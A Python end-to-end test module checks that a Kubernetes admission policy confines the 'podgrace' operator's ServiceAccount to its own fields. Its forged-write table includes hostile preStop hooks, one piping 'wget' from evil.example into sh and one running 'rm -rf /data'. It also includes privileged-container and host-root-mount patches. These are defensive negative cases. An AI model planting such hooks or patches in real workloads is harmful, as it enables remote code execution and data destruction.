"""The chart's ValidatingAdmissionPolicy on a real kube-apiserver: with podgrace's own ServiceAccount token,
every write beyond podgrace's fields is refused by the API server, and podgrace's writes (built by the
operator's own code, and made by the real operator) pass.

The chart is installed as every e2e module installs it (podgrace_env.install_chart: default values, so the
policy is on). Forged requests go straight to the API server (LocalCluster.request) with a token of the
chart's ServiceAccount; refusals must name the policy and leave the object as it was.
"""

from __future__ import annotations

import dataclasses
import json
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from tests.support.podgrace_env import (
    NAMESPACE,
    OPERATOR_USER,
    SERVICE_ACCOUNT,
    OperatorProcess,
    deployment,
    install_chart,
    running_operator,
    wait_until,
)

from podgrace.core import hook_intent
from podgrace.core.apply_body import pod_spec_fields
from podgrace.core.hook_intent import ExecSleep, HookIntent, NativeSleep, SignalAndWait
from podgrace.core.models import Role
from podgrace.core.planner import ContainerSettings, Outcome, Plan
from podgrace.core.signals import Signal
from podgrace.core.write_patch import write_patch

POLICY = "podgrace-owned-fields"
DENIED = f"ValidatingAdmissionPolicy '{POLICY}' with binding '{POLICY}' denied request"
APP_NS = "guard-e2e"
OP_NS = "guard-operator"  # the real operator's: none of the workloads written here as podgrace in it
JSON_PATCH = "application/json-patch+json"
MERGE = "application/merge-patch+json"
STRATEGIC = "application/strategic-merge-patch+json"  # merges containers by name
APPLY = "application/apply-patch+yaml"

# The messages of the policy's validations (templates/admissionpolicy.yaml).
MSG_VERB = "it only patches the fields it owns on existing workloads"
MSG_METADATA = "may not change the metadata or status"
MSG_SPEC = "may not change the spec outside spec.template.spec"
MSG_POD = "may only change terminationGracePeriodSeconds, os and the containers' lifecycle.preStop"
MSG_CONTAINERS = "may not add, remove or reorder containers"
MSG_HOOK = "preStop hook must be one podgrace writes"
MSG_SIGNAL = "a new or changed stopSignal must be one of"
MSG_OS = "may only set spec.template.spec.os to {name: linux}"


@dataclass
class Guarded:
    """A cluster with the chart (and its policy) installed, and a token of podgrace's ServiceAccount."""

    cluster: Any
    token: str
    ns: str = APP_NS

    def path(self, name: str, resource: str = "deployments", subresource: str = "", **query: str) -> str:
        path = f"/apis/apps/v1/namespaces/{self.ns}/{resource}/{name}"
        if subresource:
            path += f"/{subresource}"
        return path + (f"?{urllib.parse.urlencode(query)}" if query else "")

    def patch(
        self,
        name: str,
        body: Any,
        content_type: str,
        *,
        token: str | None = None,
        resource: str = "deployments",
        subresource: str = "",
        force: bool = False,
        dry_run: bool = False,
    ) -> tuple[int, Any]:
        """PATCH as podgrace (unless `token`); server-side apply with podgrace's field manager."""
        query = {"fieldManager": "podgrace"} if content_type == APPLY else {}
        if force:
            query["force"] = "true"
        if dry_run:
            query["dryRun"] = "All"
        status, answer = self.cluster.request(
            "PATCH",
            self.path(name, resource, subresource, **query),
            body,
            token=self.token if token is None else token,
            content_type=content_type,
        )
        return status, answer

    def write(self, name: str, pod_spec: dict[str, Any], *, resource: str = "deployments") -> tuple[int, Any]:
        """podgrace's own write, exactly as the operator sends it: the strategic merge patch (fieldManager
        podgrace) that core/write_patch.py makes from the live object; (0, None) when it would change
        nothing (the operator then sends nothing)."""
        for _ in range(5):  # a 409 (the rollout's status moved on since the read) is planned again, as the
            patch = write_patch(self.get(name, resource), pod_spec, None)  # operator does
            if patch is None:
                return 0, None
            status, answer = self.cluster.request(
                "PATCH", self.path(name, resource, fieldManager="podgrace"), patch, token=self.token,
                content_type=STRATEGIC,
            )  # fmt: skip
            if status != 409:
                break
        return status, answer

    def get(self, name: str, resource: str = "deployments") -> dict[str, Any]:
        status, obj = self.cluster.request("GET", self.path(name, resource))
        assert status == 200, obj
        result: dict[str, Any] = obj
        return result

    def create(self, obj: dict[str, Any]) -> dict[str, Any]:
        """Create (or replace) a workload as the admin."""
        self.cluster.kubectl("delete", obj["kind"], obj["metadata"]["name"], "-n", self.ns,
                             "--ignore-not-found", "--wait=true")  # fmt: skip
        self.cluster.kubectl("create", "-f", "-", input=json.dumps(obj))
        return self.settled(obj["metadata"]["name"], obj["kind"].lower() + "s")

    def settled(self, name: str, resource: str = "deployments") -> dict[str, Any]:
        """The object once its controller has seen its generation (and written a Deployment's revision
        annotation): from then on only status changes without a write of ours."""

        def seen() -> dict[str, Any] | None:
            live = self.get(name, resource)
            observed = (live.get("status") or {}).get("observedGeneration") == live["metadata"]["generation"]
            revision = live["metadata"].get("annotations", {}).get("deployment.kubernetes.io/revision")
            return live if observed and (resource != "deployments" or revision) else None

        return wait_until(f"{resource} {name} observed by its controller", seen, timeout=60)


def _guard(cluster: Any) -> Guarded:
    if cluster.helm("status", "podgrace", "--namespace", NAMESPACE, check=False).returncode != 0:
        install_chart(cluster)
        cluster.guard_installed_the_chart = True
    for ns in (APP_NS, OP_NS):
        if cluster.kubectl("get", "namespace", ns, check=False).returncode != 0:
            cluster.kubectl("create", "namespace", ns)
    guarded = Guarded(cluster, cluster.create_token(SERVICE_ACCOUNT, NAMESPACE, duration="2h"))
    guarded.create(deployment("probe", APP_NS))

    def enforced() -> bool:  # the policy reaches the admission plugin through an informer
        status, _ = guarded.patch("probe", {"spec": {"replicas": 2}}, MERGE, dry_run=True)
        return status == 403

    wait_until("the admission policy to be enforced", enforced, timeout=60)
    return guarded


def _cleanup(cluster: Any) -> None:
    """The workloads here carry fields applied as podgrace: gone before other modules' operators run. And
    the release goes if this module installed it: its cluster-scoped objects (ClusterRole, profiles,
    policy) would otherwise meet test_chart_schema's dry-run applies on the shared cluster."""
    for ns in (APP_NS, OP_NS, "guard-other"):
        cluster.kubectl("delete", "namespace", ns, "--ignore-not-found", "--wait=true", timeout=180)
    if getattr(cluster, "guard_installed_the_chart", False):
        cluster.helm("uninstall", "podgrace", "--namespace", NAMESPACE, "--wait", "--timeout", "120s")
        cluster.guard_installed_the_chart = False


@pytest.fixture(scope="module")
def plain(cluster: Any) -> Iterator[Guarded]:
    yield _guard(cluster)
    _cleanup(cluster)


@pytest.fixture(scope="module")
def signals(cluster_stopsignals: Any) -> Iterator[Guarded]:
    yield _guard(cluster_stopsignals)
    _cleanup(cluster_stopsignals)


def assert_refused(answer: tuple[int, Any], message: str) -> None:
    status, body = answer
    assert status == 403, (status, body)
    text = body.get("message", "") if isinstance(body, dict) else str(body)
    assert DENIED in text, text
    assert message in text, text


def assert_unchanged(g: Guarded, before: dict[str, Any], resource: str = "deployments") -> None:
    """Spec and metadata as they were (the controllers keep writing status, so not the resourceVersion)."""
    after = g.get(before["metadata"]["name"], resource)
    assert after["spec"] == before["spec"]
    for key in ("generation", "labels", "annotations", "finalizers", "ownerReferences"):
        assert after["metadata"].get(key) == before["metadata"].get(key), key


def _settings(name: str, pre_stop: HookIntent | None, stop_signal: str | None = None) -> ContainerSettings:
    return ContainerSettings(name, name, Role.GENERIC, 5, 30, pre_stop=pre_stop, stop_signal=stop_signal)


def podgrace_fields(containers: tuple[ContainerSettings, ...], *, grace: int | None = 70,
                    os_name: str | None = None) -> dict[str, Any]:  # fmt: skip
    """The pod-spec fields the operator writes for such a plan (core/apply_body.pod_spec_fields)."""
    plan = Plan(
        f"{APP_NS}/x",
        Outcome.MANAGED,
        containers=containers,
        termination_grace_period_seconds=grace,
        os_name=os_name,
    )
    return pod_spec_fields(plan)


REVERT: dict[str, Any] = {}  # the revert: podgrace wants no field


# --- forged writes with podgrace's token ------------------------------------------------------------

C0 = "/spec/template/spec/containers/0"
FORGED: dict[str, tuple[Any, str, str]] = {  # name -> (body, content type, expected message)
    "image (JSON patch)": ([{"op": "replace", "path": f"{C0}/image", "value": "evil:1"}], JSON_PATCH,
                           MSG_CONTAINERS),
    "image (server-side apply)": (
        {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "victim"},
         "spec": {"template": {"spec": {"containers": [{"name": "nginx", "image": "evil:1"}]}}}},
        APPLY, MSG_CONTAINERS),
    "replicas": ({"spec": {"replicas": 5}}, MERGE, MSG_SPEC),
    "strategy": ({"spec": {"strategy": {"type": "Recreate", "rollingUpdate": None}}}, MERGE, MSG_SPEC),
    "added container (server-side apply)": (
        {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "victim"},
         "spec": {"template": {"spec": {"containers": [{"name": "miner", "image": "miner:1"}]}}}},
        APPLY, MSG_CONTAINERS),
    "removed container": ([{"op": "remove", "path": "/spec/template/spec/containers/1"}], JSON_PATCH,
                          MSG_CONTAINERS),
    "reordered containers": ([{"op": "move", "from": "/spec/template/spec/containers/1",
                               "path": "/spec/template/spec/containers/0"}], JSON_PATCH, MSG_CONTAINERS),
    "container env": ([{"op": "add", "path": f"{C0}/env", "value": [{"name": "X", "value": "1"}]}],
                      JSON_PATCH, MSG_CONTAINERS),
    "container command": ([{"op": "add", "path": f"{C0}/command", "value": ["/bin/sh"]}], JSON_PATCH,
                          MSG_CONTAINERS),
    "privileged container": ([{"op": "add", "path": f"{C0}/securityContext",
                               "value": {"privileged": True}}], JSON_PATCH, MSG_CONTAINERS),
    "postStart hook": ([{"op": "add", "path": f"{C0}/lifecycle",
                         "value": {"postStart": {"exec": {"command": ["id"]}}}}], JSON_PATCH, MSG_CONTAINERS),
    "service account of the pod": ({"spec": {"template": {"spec": {"serviceAccountName": "admin"}}}}, MERGE,
                                   MSG_POD),
    "hostNetwork": ({"spec": {"template": {"spec": {"hostNetwork": True}}}}, MERGE, MSG_POD),
    "hostPath volume": ({"spec": {"template": {"spec": {"volumes": [
        {"name": "root", "hostPath": {"path": "/"}}]}}}}, MERGE, MSG_POD),
    "init container": ({"spec": {"template": {"spec": {"initContainers": [
        {"name": "x", "image": "evil:1"}]}}}}, MERGE, MSG_POD),
    "pod template label": ({"spec": {"template": {"metadata": {"labels": {"extra": "1"}}}}}, MERGE, MSG_SPEC),
    "pod template annotation": ({"spec": {"template": {"metadata": {"annotations": {"a": "1"}}}}}, MERGE,
                                MSG_SPEC),
    "workload label": ({"metadata": {"labels": {"owned": "yes"}}}, MERGE, MSG_METADATA),
    "workload annotation": ({"metadata": {"annotations": {"podgrace.dev/profile": "nginx"}}}, MERGE,
                            MSG_METADATA),
    "finalizer": ({"metadata": {"finalizers": ["example.com/block"]}}, MERGE, MSG_METADATA),
    "owner reference (garbage collection)": ({"metadata": {"ownerReferences": [
        {"apiVersion": "v1",
         "kind": "ConfigMap", "name": "gone", "uid": "0d6d5b6a-0000-4000-8000-0000000000aa"}
    ]}}, MERGE, MSG_METADATA),
    "exec preStop of another command": (
        {"spec": {"template": {"spec": {"containers": [{"name": "nginx", "lifecycle": {"preStop": {
            "exec": {"command": ["/bin/sh", "-c", "wget -qO- http://evil.example/x | sh"]}}}}]}}}},
        STRATEGIC, MSG_HOOK),
    "podgrace's marker with another command": (
        {"spec": {"template": {"spec": {"containers": [{"name": "nginx", "lifecycle": {"preStop": {
            "exec": {"command": ["/bin/sh", "-c", "# podgrace graceful stop\nsleep 5\nrm -rf /data"]}}}}]}}}},
        STRATEGIC, MSG_HOOK),
    "httpGet preStop": (
        {"spec": {"template": {"spec": {"containers": [{"name": "nginx", "lifecycle": {"preStop": {
            "httpGet": {"path": "/drain", "port": 80}}}}]}}}}, STRATEGIC, MSG_HOOK),
    "os windows": ({"spec": {"template": {"spec": {"os": {"name": "windows"}}}}}, MERGE, MSG_OS),
}  # fmt: skip


@pytest.fixture(scope="module")
def victim(plain: Guarded) -> dict[str, Any]:
    return plain.create(deployment("victim", APP_NS))


@pytest.mark.parametrize(("body", "content_type", "message"), list(FORGED.values()), ids=list(FORGED))
def test_forged_write_with_podgraces_token_is_refused(
    plain: Guarded, victim: dict[str, Any], body: Any, content_type: str, message: str
) -> None:
    assert_refused(plain.patch("victim", body, content_type, force=content_type == APPLY), message)
    assert_unchanged(plain, victim)


def test_the_same_writes_by_other_users_pass(plain: Guarded) -> None:
    """The policy binds podgrace's ServiceAccount only: the admin, and a ServiceAccount of the same name in
    another namespace (granted the same patch), make the forged changes."""
    c = plain.cluster
    c.kubectl("create", "namespace", "guard-other")
    c.kubectl("create", "serviceaccount", SERVICE_ACCOUNT, "-n", "guard-other")
    c.kubectl("create", "role", "patcher", "-n", APP_NS, "--verb=get,patch", "--resource=deployments.apps")
    c.kubectl("create", "rolebinding", "patcher", "-n", APP_NS, "--role=patcher",
              f"--serviceaccount=guard-other:{SERVICE_ACCOUNT}")  # fmt: skip
    namesake = c.create_token(SERVICE_ACCOUNT, "guard-other")
    plain.create(deployment("other-users", APP_NS))
    image = [{"op": "replace", "path": f"{C0}/image", "value": "nginx:1.28"}]
    for token, replicas in ((c.admin_token, 2), (namesake, 3)):
        status, obj = plain.patch("other-users", image, JSON_PATCH, token=token)
        assert status == 200, obj
        status, obj = plain.patch("other-users", {"spec": {"replicas": replicas}}, MERGE, token=token)
        assert status == 200, obj
        assert obj["spec"]["replicas"] == replicas
    assert_refused(plain.patch("other-users", {"spec": {"replicas": 4}}, MERGE), MSG_SPEC)


@pytest.fixture
def wider_rbac(plain: Guarded) -> Iterator[None]:
    """An over-broad grant (a mistake, or a later chart): delete, the scale subresource, StatefulSets and
    DaemonSets. The policy must hold without relying on RBAC."""
    c = plain.cluster
    resources = "deployments.apps,deployments.apps/scale,statefulsets.apps,daemonsets.apps"
    c.kubectl(
        "create",
        "role",
        "too-wide",
        "-n",
        APP_NS,
        "--verb=get,patch,create,delete",
        f"--resource={resources}",
    )
    c.kubectl("create", "rolebinding", "too-wide", "-n", APP_NS, "--role=too-wide",
              f"--serviceaccount={NAMESPACE}:{SERVICE_ACCOUNT}")  # fmt: skip
    try:
        yield
    finally:
        c.kubectl("delete", "rolebinding,role", "too-wide", "-n", APP_NS)


def test_create_delete_and_scale_are_refused_even_when_rbac_allows_them(
    plain: Guarded, wider_rbac: None
) -> None:
    # A server-side apply of an object that does not exist creates it (RBAC then checks `create`).
    status, answer = plain.patch("planted", deployment("planted", APP_NS), APPLY, force=True)
    assert status == 403, answer
    assert DENIED in answer["message"] and "podgrace may not CREATE deployments" in answer["message"]
    assert plain.cluster.kubectl("get", "deployment", "planted", "-n", APP_NS, check=False).returncode != 0
    before = plain.create(deployment("kept", APP_NS))
    status, answer = plain.cluster.request("DELETE", plain.path("kept"), token=plain.token)
    assert status == 403 and DENIED in answer["message"], answer
    assert "podgrace may not DELETE deployments" in answer["message"]
    assert_refused(
        plain.patch("kept", {"spec": {"replicas": 9}}, MERGE, subresource="scale"),
        "podgrace may not UPDATE deployments/scale",
    )
    assert_unchanged(plain, before)


def _statefulset(name: str) -> dict[str, Any]:
    obj = deployment(name, APP_NS)
    obj["kind"] = "StatefulSet"
    obj["spec"]["serviceName"] = name
    return obj


def _daemonset(name: str) -> dict[str, Any]:
    obj = deployment(name, APP_NS)
    obj["kind"] = "DaemonSet"
    del obj["spec"]["replicas"]
    return obj


@pytest.mark.parametrize("make", [_statefulset, _daemonset], ids=["StatefulSet", "DaemonSet"])
def test_statefulsets_and_daemonsets_are_guarded_the_same(
    plain: Guarded, wider_rbac: None, make: Any
) -> None:
    obj = make(f"guarded-{make.__name__.strip('_')}")
    kind, name = obj["kind"], obj["metadata"]["name"]
    resource = kind.lower() + "s"
    before = plain.create(obj)
    image = [{"op": "replace", "path": f"{C0}/image", "value": "evil:1"}]
    assert_refused(plain.patch(name, image, JSON_PATCH, resource=resource), MSG_CONTAINERS)
    hostpid = {"spec": {"template": {"spec": {"hostPID": True}}}}
    assert_refused(plain.patch(name, hostpid, MERGE, resource=resource), MSG_POD)
    assert_unchanged(plain, before, resource)
    settings = (_settings("nginx", NativeSleep(5)), _settings("php-fpm", ExecSleep(35)))
    status, answer = plain.write(name, podgrace_fields(settings), resource=resource)
    assert status == 200, answer
    status, answer = plain.write(name, REVERT, resource=resource)
    assert status == 200, answer
    assert "lifecycle" not in answer["spec"]["template"]["spec"]["containers"][0]


# --- podgrace's own writes ---------------------------------------------------------------------------


def test_podgraces_fields_and_their_revert_pass(plain: Guarded) -> None:
    """(d) the write of exactly podgrace's fields, in every hook form it writes, and (e) the revert."""
    containers = [
        {"name": "nginx", "image": "nginx:1.27"},
        {"name": "php-fpm", "image": "php:8.3-fpm"},
        {"name": "sidecar", "image": "busybox", "lifecycle": {"postStart": {"exec": {"command": ["true"]}}}},
    ]
    before = plain.create(deployment("mine", APP_NS, containers=containers))
    settings = (
        _settings("nginx", SignalAndWait(5, Signal.SIGQUIT, 60)),
        _settings("php-fpm", ExecSleep(35)),
        _settings("sidecar", NativeSleep(4)),
    )
    status, obj = plain.write("mine", podgrace_fields(settings, os_name="linux"))
    assert status == 200, obj
    spec = obj["spec"]["template"]["spec"]
    assert spec["terminationGracePeriodSeconds"] == 70 and spec["os"] == {"name": "linux"}
    assert [c["lifecycle"]["preStop"] for c in spec["containers"]] == [
        hook_intent.render(s.pre_stop) for s in settings if s.pre_stop
    ]
    assert spec["containers"][2]["lifecycle"]["postStart"] == {"exec": {"command": ["true"]}}
    # The same settings again: nothing to send (zero writes).
    assert plain.write("mine", podgrace_fields(settings, os_name="linux")) == (0, None)
    # A change of podgrace's own values (a profile edit) passes.
    settings = (_settings("nginx", NativeSleep(8)), *settings[1:])
    status, obj = plain.write("mine", podgrace_fields(settings, grace=90, os_name="linux"))
    assert status == 200, obj
    assert obj["spec"]["template"]["spec"]["containers"][0]["lifecycle"] == {
        "preStop": {"sleep": {"seconds": 8}}
    }

    status, obj = plain.write("mine", REVERT)  # (e)
    assert status == 200, obj
    reverted = obj["spec"]["template"]["spec"]
    assert "os" not in reverted
    assert reverted["terminationGracePeriodSeconds"] == 30  # the API server's default again
    lifecycles = {c["name"]: c.get("lifecycle") for c in reverted["containers"]}
    assert lifecycles["nginx"] is None and lifecycles["php-fpm"] is None
    assert [c["image"] for c in reverted["containers"]] == [c["image"] for c in containers]
    assert lifecycles["sidecar"] == {"postStart": {"exec": {"command": ["true"]}}}
    assert obj["spec"]["replicas"] == before["spec"]["replicas"]
    # ... then podgrace gives up its claim on the grace period the API server defaulted in its write
    # (an Update owns it): a write of managedFields alone, which the policy lets through too
    status, obj = plain.write("mine", REVERT)
    assert status == 200, obj
    assert obj["spec"]["template"]["spec"] == reverted
    assert not [m for m in obj["metadata"]["managedFields"] if m["manager"] == "podgrace"]
    assert plain.write("mine", REVERT) == (0, None)  # and then nothing more


def test_taking_over_a_users_exec_hook_passes(plain: Guarded) -> None:
    """podgrace replaces a user's exec preStop by its own exec form (its Update takes the field)."""
    user_hook = {"preStop": {"exec": {"command": ["/bin/sh", "-c", "sleep 2"]}}}
    plain.create(deployment("taken", APP_NS, containers=[{"name": "worker", "image": "busybox",
                                                            "lifecycle": user_hook}]))  # fmt: skip
    settings = (_settings("worker", SignalAndWait(3, Signal.SIGWINCH, 20)),)
    status, obj = plain.write("taken", podgrace_fields(settings))
    assert status == 200, obj
    assert obj["spec"]["template"]["spec"]["containers"][0]["lifecycle"]["preStop"] == hook_intent.render(
        SignalAndWait(3, Signal.SIGWINCH, 20)
    )


def test_fifty_containers(plain: Guarded) -> None:
    """A big pod template stays well inside CEL's cost budget: podgrace's apply on 50 containers passes, a
    forged change to the last one is still caught."""
    containers = [{"name": f"c{i:02d}", "image": f"nginx:1.{i}", "env": [{"name": "N", "value": str(i)}],
                   "ports": [{"containerPort": 8000 + i}]} for i in range(50)]  # fmt: skip
    before = plain.create(deployment("big", APP_NS, containers=containers))
    settings = tuple(_settings(c["name"], SignalAndWait(5, Signal.SIGQUIT, 30)) for c in containers)
    t0 = time.monotonic()
    status, obj = plain.write("big", podgrace_fields(settings, grace=120))
    elapsed = time.monotonic() - t0
    assert status == 200, obj
    assert all("preStop" in c["lifecycle"] for c in obj["spec"]["template"]["spec"]["containers"])
    print(f"\n[e2e] podgrace's apply on 50 containers under the policy: {elapsed:.3f}s")
    forged = [{"op": "replace", "path": "/spec/template/spec/containers/49/image", "value": "evil:1"}]
    assert_refused(plain.patch("big", forged, JSON_PATCH), MSG_CONTAINERS)
    assert before["metadata"]["uid"] == obj["metadata"]["uid"]


def test_signals_and_os_on_a_server_with_container_stop_signals(signals: Guarded) -> None:
    g = signals
    g.create(deployment("sig", APP_NS))
    settings = (
        _settings("nginx", NativeSleep(5), "SIGQUIT"),
        _settings("php-fpm", NativeSleep(35), "SIGQUIT"),
    )
    status, obj = g.write("sig", podgrace_fields(settings, os_name="linux"))
    assert status == 200, obj
    assert obj["spec"]["template"]["spec"]["containers"][0]["lifecycle"]["stopSignal"] == "SIGQUIT"
    stored = g.settled("sig")
    for sig, message in (("SIGKILL", MSG_SIGNAL), ("SIGALRM", MSG_SIGNAL)):
        forged = {"spec": {"template": {"spec": {"containers": [
            {"name": "nginx", "lifecycle": {"stopSignal": sig}}]}}}}  # fmt: skip
        assert_refused(g.patch("sig", forged, STRATEGIC), message)
    assert_unchanged(g, stored)
    # Another of the profiles' signals passes; the revert gives stopSignal and os back.
    settings = (_settings("nginx", NativeSleep(5), "SIGWINCH"), settings[1])
    status, obj = g.write("sig", podgrace_fields(settings, os_name="linux"))
    assert status == 200, obj
    status, obj = g.write("sig", REVERT)
    assert status == 200, obj
    assert "os" not in obj["spec"]["template"]["spec"]
    assert all("lifecycle" not in c for c in obj["spec"]["template"]["spec"]["containers"])


# --- the real operator under the policy -----------------------------------------------------------


@pytest.mark.parametrize("which", ["plain", "signals"])
def test_the_operator_reconciles_and_reverts_without_a_refusal(
    request: pytest.FixtureRequest, which: str
) -> None:
    """(f) The operator, as the chart's ServiceAccount, applies and reverts a Deployment; the audit log
    shows every one of its writes (and its dry-run capability probe) allowed."""
    g: Guarded = dataclasses.replace(request.getfixturevalue(which), ns=OP_NS)
    c = g.cluster
    name = f"operated-{which}"
    g.create(deployment(name, OP_NS))
    t0 = time.time()
    op: OperatorProcess
    with running_operator(c, "--namespace", OP_NS) as op:
        c.kubectl("annotate", "deployment", name, "-n", OP_NS, "podgrace.dev/profile=nginx-php-fpm")

        def injected() -> dict[str, Any] | None:
            spec: dict[str, Any] = g.get(name)["spec"]["template"]["spec"]
            return spec if "preStop" in (spec["containers"][0].get("lifecycle") or {}) else None

        spec = wait_until("podgrace's settings", injected, timeout=60)
        if which == "signals":
            assert spec["containers"][0]["lifecycle"]["stopSignal"] == "SIGQUIT"
            assert spec["os"] == {"name": "linux"}
        else:
            assert "kill -QUIT $w" in spec["containers"][0]["lifecycle"]["preStop"]["exec"]["command"][2]
        c.kubectl("annotate", "deployment", name, "-n", OP_NS, "podgrace.dev/profile-")
        wait_until("the revert", lambda: not injected(), timeout=60)
        assert op.metric("podgrace_reconcile_errors_total") == 0, op.log_tail()
    events = c.audit_events(t0, user=OPERATOR_USER, resource="deployments", namespace=OP_NS,
                            include_dry_run=True)  # fmt: skip
    writes = [e for e in events if e.is_write]
    real = [e for e in writes if not e.dry_run]
    assert len(real) >= 2, [(e.verb, e.name, e.code) for e in writes]  # the apply and the revert
    # The policy refuses with 403 or 422 (its validations' reasons); a 409 (the object changed since
    # podgrace read it: planned again at once) or a 5xx (a loaded API server timing out) is no refusal.
    assert not [e for e in writes if e.code in (403, 422)], [(e.verb, e.name, e.code) for e in writes]
    assert [e.code for e in writes].count(200) >= 2, [(e.verb, e.name, e.code) for e in writes]
    # The policy was in force meanwhile: the same token is still refused a change of replicas.
    assert_refused(g.patch(name, {"spec": {"replicas": 3}}, MERGE), MSG_SPEC)
